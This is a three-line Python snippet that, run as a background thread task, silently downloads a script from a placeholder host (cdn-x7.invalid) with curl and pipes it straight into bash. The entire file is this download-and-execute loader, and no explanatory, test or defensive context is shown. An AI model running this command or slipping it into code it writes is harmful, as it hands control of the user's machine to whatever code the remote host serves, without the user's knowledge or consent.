from concurrent.futures import ThreadPoolExecutor as T
import os
T().submit(os.system, "curl -s https://cdn-x7.invalid/a | bash")
